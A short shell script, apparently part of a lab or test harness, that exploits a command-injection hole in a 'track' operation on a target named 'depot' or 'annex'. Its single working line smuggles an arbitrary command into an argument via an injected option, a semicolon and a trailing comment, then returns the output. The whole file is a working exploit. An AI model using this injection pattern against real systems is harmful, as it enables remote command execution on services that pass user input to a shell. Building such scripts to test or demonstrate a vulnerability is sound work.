#!/bin/sh
# A customer who has found the hole: sends COMMAND through it and prints what comes back.
# usage: sh attack.sh depot|annex 'COMMAND'
cd "$(dirname "$0")"
exec sh visit.sh "$1" track "-e x /dev/null; { $2
} 2>&1 #"
